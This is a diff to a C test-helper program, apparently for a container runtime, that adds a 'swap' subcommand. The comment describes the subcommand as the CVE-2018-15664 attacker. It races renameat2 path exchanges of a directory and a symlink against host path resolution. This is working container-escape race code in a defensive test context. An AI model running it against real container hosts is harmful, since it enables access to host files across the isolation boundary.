@@ -456,6 +456,28 @@ static int cmd_isatty(const char *arg) {
   return 0;
 }
 
+/* The CVE-2018-15664 attacker: exchange two paths (a directory and an
+ * absolute symlink) as fast as the kernel allows, for SECONDS, so that a
+ * host process resolving a path through them by name races the swap. */
+static int cmd_swap(const char *x, const char *y, const char *secs) {
+  char *end;
+  double s = strtod(secs, &end);
+  if (*end || s < 0)
+    return usage("swap: SECONDS must be a non-negative number");
+  struct timespec t0, t;
+  clock_gettime(CLOCK_MONOTONIC, &t0);
+  unsigned long n = 0;
+  do {
+    /* ENOENT: the victim removed one of them for a moment; go on */
+    for (int i = 0; i < 1000; i++, n++)
+      if (renameat2(AT_FDCWD, x, AT_FDCWD, y, RENAME_EXCHANGE) < 0 && errno != ENOENT)
+        return fail("swap", x, errno);
+    clock_gettime(CLOCK_MONOTONIC, &t);
+  } while ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 < s);
+  printf("%lu\n", n);
+  return 0;
+}
+
 static const char usage_text[] =
     "usage: hutch-helper COMMAND [ARGS]\n"
     "  hostname | domainname | pid | ppid | id | cwd | umask | mountinfo | fds | true\n"
@@ -464,7 +486,8 @@ static const char usage_text[] =
     "  env [NAME] | ns TYPE | rlimit NAME (soft hard) | isatty [FD] (1 or 0)\n"
     "  memhog MIB | forkbomb N | spin SECONDS | sleep SECONDS | exit N\n"
     "  kill-self SIG | trap-term (prints \"got SIGTERM\" and exits 0 on SIGTERM)\n"
-    "  trap SIG... (prints \"got SIG<NAME>\" and exits 0 on the first of them)\n";
+    "  trap SIG... (prints \"got SIG<NAME>\" and exits 0 on the first of them)\n"
+    "  swap A B SECONDS    exchange paths A and B in a loop (renameat2), print the count\n";
 
 int main(int argc, char **argv) {
   if (argc < 2) {
@@ -569,6 +592,9 @@ int main(int argc, char **argv) {
   } else if (strcmp(cmd, "trap") == 0) {
     NEED(1);
     rc = cmd_trap(argc - 2, argv + 2);
+  } else if (strcmp(cmd, "swap") == 0) {
+    NEED(3);
+    rc = cmd_swap(a1, a2, argv[4]);
   } else if (strcmp(cmd, "rlimit") == 0) {
     NEED(1);
     rc = cmd_rlimit(a1);
